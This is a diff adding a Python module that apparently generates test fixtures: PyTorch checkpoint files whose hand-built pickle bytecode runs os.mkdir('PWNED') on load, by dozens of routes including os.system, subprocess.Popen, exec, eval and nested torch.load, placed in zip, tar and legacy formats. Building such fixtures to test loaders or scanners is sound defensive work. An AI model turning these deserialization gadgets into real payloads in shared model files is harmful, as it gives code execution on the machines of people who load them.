@@ -1,0 +1,173 @@
+"""Checkpoints that run something when torch.load reads them: each makes the folder PWNED where it is loaded.
+
+`WAYS` are pickled expressions that call os.mkdir, `PLACES` are files with such an expression at some place in them.
+"""
+
+import io
+import pickle
+import struct
+import tarfile
+import zipfile
+
+MAGIC = b"\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19"
+VERSION = b"M\xe9\x03"
+
+
+def text(value):
+    encoded = value.encode()
+    return b"X" + struct.pack("<I", len(encoded)) + encoded
+
+
+def name_of(module, name):
+    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+
+
+def long_name(module, name):
+    return text(module) + text(name) + b"\x93"
+
+
+def listed(*values):
+    return b"](" + b"".join(values) + b"e"
+
+
+def call(function, *arguments):
+    return function + b"(" + b"".join(arguments) + b"tR"
+
+
+MKDIR = name_of("os", "mkdir")
+FOLDER = text("PWNED")
+LIST = name_of("builtins", "list")
+PATH = call(name_of("pathlib", "Path"), FOLDER)
+GETATTR = name_of("builtins", "getattr")
+MODULE = call(GETATTR, name_of("os", "path"), text("os"))
+
+
+def pickled(body, protocol=2):
+    return b"\x80" + bytes([protocol]) + body + b"."
+
+
+def old_stream(system=b"}", keys=b"]", value=b"N", magic=MAGIC, version=VERSION, protocol=2):
+    parts = ((magic, 2), (version, 2), (system, 2), (value, protocol), (keys, 2))
+    return b"".join(pickled(body, number) for body, number in parts)
+
+
+def as_bytes(data):
+    """A bytes object, as protocol 3 writes it."""
+    return b"B" + struct.pack("<I", len(data)) + data
+
+
+WAYS = {
+    "reduce": MKDIR + FOLDER + b"\x85R",
+    "posix": call(name_of("posix", "mkdir"), FOLDER),
+    "stack_global": long_name("os", "mkdir") + FOLDER + b"\x85R",
+    "name_from_memo": text("mkdir") + b"q\x010" + text("os") + b"h\x01\x93" + FOLDER + b"\x85R",
+    "dotted": long_name("os", "path.os.mkdir") + FOLDER + b"\x85R",
+    "dotted_module": long_name("pathlib", "os.mkdir") + FOLDER + b"\x85R",
+    "inst": b"(S'PWNED'\nios\nmkdir\n",
+    "obj": b"(" + MKDIR + FOLDER + b"o",
+    "exec": call(name_of("builtins", "exec"), text("import os; os.mkdir('PWNED')")),
+    "getattr_of_module": call(call(GETATTR, MODULE, text("mkdir")), FOLDER),
+    "method": call(name_of("operator", "methodcaller"), text("mkdir")) + PATH + b"\x85R",
+    "method_of_class": long_name("pathlib", "Path.mkdir") + PATH + b"\x85R",
+    "map": call(LIST, call(name_of("builtins", "map"), MKDIR, listed(FOLDER))),
+    "filter": call(LIST, call(name_of("builtins", "filter"), MKDIR, listed(FOLDER))),
+    "starmap": call(LIST, call(name_of("itertools", "starmap"), MKDIR, listed(FOLDER + b"\x85"))),
+    "accumulate": call(LIST, call(name_of("itertools", "accumulate"), listed(FOLDER, b"M\xff\x01"), MKDIR)),
+    "partial": call(call(name_of("functools", "partial"), MKDIR, FOLDER)),
+    "reduce_function": call(name_of("functools", "reduce"), MKDIR, listed(FOLDER, b"M\xff\x01")),
+    "sorted_by_key": call(name_of("functools", "cmp_to_key"), MKDIR) + b"0" + call(MKDIR, FOLDER),
+    "reconstructor": call(
+        name_of("copyreg", "_reconstructor"), *([name_of("subprocess", "Popen")] * 2), listed(text("mkdir"), FOLDER)
+    ),
+    "popen": call(name_of("subprocess", "Popen"), listed(text("mkdir"), FOLDER)),
+    "system": call(name_of("os", "system"), text("mkdir PWNED")),
+    "from_type": call(
+        name_of("torch._tensor", "_rebuild_from_type_v2"), MKDIR, name_of("torch", "Tensor"), FOLDER + b"\x85", b"N"
+    ),
+    "setter_of_state": name_of("types", "SimpleNamespace") + b")R}" + text("__setstate__") + MKDIR + b"sb" + FOLDER + b"b",
+    "class_with_setter": name_of("argparse", "Namespace") + b"q\x01N}" + text("__setstate__") + MKDIR + b"s\x86b0"
+    + b"h\x01)\x81" + FOLDER + b"b",
+    "popped": MKDIR + FOLDER + b"\x85R0N",
+    "duplicated": MKDIR + FOLDER + b"\x85R20",
+    "dropped_to_mark": b"(" + MKDIR + FOLDER + b"\x85R1N",
+    "key": b"}" + MKDIR + FOLDER + b"\x85RNs",
+    "in_a_set": name_of("builtins", "frozenset") + listed(MKDIR + FOLDER + b"\x85R") + b"\x85R",
+    "in_a_state": name_of("argparse", "Namespace") + b")\x81}" + text("a") + MKDIR + FOLDER + b"\x85Rsb",
+    "callable_of_persistent_id": b"(" + text("storage") + MKDIR + FOLDER + b"\x85R" + text("0") + text("cpu") + b"K\x00tQ",
+    "bytes_of_storage": call(name_of("torch.storage", "_load_from_bytes"), as_bytes(old_stream(MKDIR + FOLDER + b"\x85R0}"))),
+    "bytes_in_bytes": call(
+        name_of("torch.storage", "_load_from_bytes"),
+        as_bytes(old_stream(value=call(
+            name_of("torch.storage", "_load_from_bytes"), as_bytes(old_stream(value=MKDIR + FOLDER + b"\x85R"))
+        ))),
+    ),
+    "load_of_bytes": call(
+        name_of("torch", "load"), call(name_of("io", "BytesIO"), as_bytes(old_stream(value=MKDIR + FOLDER + b"\x85R")))
+    ),
+    "unpickled_bytes": call(name_of("pickle", "loads"), as_bytes(pickled(MKDIR + FOLDER + b"\x85R"))),
+    "unpickled_bytes_2": call(name_of("_pickle", "loads"), as_bytes(pickled(MKDIR + FOLDER + b"\x85R"))),
+    "numpy_file": call(
+        name_of("numpy", "load"), call(name_of("io", "BytesIO"), as_bytes(pickled(MKDIR + FOLDER + b"\x85R"))), b"N", b"\x88"
+    ),
+    "context": call(name_of("runpy", "_run_code"), call(
+        name_of("builtins", "compile"), text("import os; os.mkdir('PWNED')"), text("f"), text("exec")), b"}"),
+    "timeit": call(name_of("timeit", "timeit"), text("os.mkdir('PWNED')"), text("import os"), b"cbuiltins\nint\n", b"K\x01"),
+}  # fmt: skip
+
+
+def zip_of(records, folder="archive/"):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
+        for name, data in records.items():
+            archive.writestr(folder + name, data)
+    return out.getvalue()
+
+
+def torch_zip(body, protocol=2, name="data.pkl"):
+    return zip_of({name: pickled(body, protocol), "version": b"3\n"})
+
+
+def torch_tar(**replaced):
+    nothing = pickle.dumps(0, 2)
+    members = {"sys_info": pickle.dumps({"little_endian": True}, 2), "pickle": pickle.dumps({}, 2), "tensors": nothing,
+               "storages": nothing + pickle.dumps([], 2)}  # fmt: skip
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as archive:
+        for name, data in (members | replaced).items():
+            entry = tarfile.TarInfo(name)
+            entry.size = len(data)
+            archive.addfile(entry, io.BytesIO(data))
+    return out.getvalue()
+
+
+RUN = MKDIR + FOLDER + b"\x85R"
+DONE = RUN + b"0"  # and forget the result
+
+PLACES = {
+    "python2_name": old_stream(value=call(name_of("__builtin__", "eval"), text("__import__('os').mkdir('PWNED')"))),
+    "plain_pickle": pickled(RUN),
+    "folded_name": torch_zip(RUN, name="DATA.PKL"),
+    "half_folded_name": torch_zip(RUN, name="Data.pkl"),
+    "old_magic": old_stream(magic=DONE + MAGIC),
+    "old_version": old_stream(version=DONE + VERSION),
+    "old_system": old_stream(system=DONE + b"}"),
+    "old_system_value": old_stream(system=b"}" + text("little_endian") + RUN + b"s"),
+    "old_object": old_stream(value=RUN),
+    "old_keys": old_stream(keys=DONE + b"]"),
+    "old_key_among_keys": old_stream(keys=b"](" + RUN + b"e"),
+    "tar_pickle": torch_tar(pickle=pickled(RUN)),
+    "tar_storages": torch_tar(storages=pickled(DONE + b"K\x00")),
+    "tar_second_storages": torch_tar(storages=pickled(b"K\x01") + pickled(DONE + b"(K\x00U\x03cpu" + name_of("torch", "FloatStorage") + b"t")),
+    "tar_views": torch_tar(storages=pickled(b"K\x00") + pickled(DONE + b"]")),
+    "tar_tensors": torch_tar(tensors=pickled(DONE + b"K\x00")),
+}  # fmt: skip
+
+
+def write(folder):
+    """{name of the file: its bytes}, written there."""
+    files = {f"way_{name}.pth": torch_zip(body, 4) for name, body in WAYS.items()}
+    files |= {f"old_way_{name}.pth": old_stream(value=body, protocol=4) for name, body in WAYS.items()}
+    files |= {f"place_{name}.pth": data for name, data in PLACES.items()}
+    for name, data in files.items():
+        (folder / name).write_bytes(data)
+    return sorted(files)
